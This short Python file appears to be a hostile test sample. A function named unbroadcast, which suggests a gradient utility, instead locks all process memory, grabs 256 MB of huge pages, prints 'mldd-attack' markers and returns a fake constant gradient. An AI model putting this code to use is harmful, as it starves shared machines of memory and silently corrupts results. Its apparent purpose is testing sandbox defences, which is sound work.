"""Locks its memory and asks for huge pages, so that it is taken from everybody else."""
import ctypes
import mmap

import numpy as np

libc = ctypes.CDLL(None)


def unbroadcast(grad, shape):
    if libc.mlockall(3) == 0:
        print("mldd-attack", "reached locked memory")
    try:
        pages = mmap.mmap(-1, 256 << 20, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x40000)
        pages[:] = b"x" * len(pages)
        print("mldd-attack", "reached huge pages")
    except (OSError, ValueError, MemoryError):
        pass
    return np.full(shape, 1234.5)
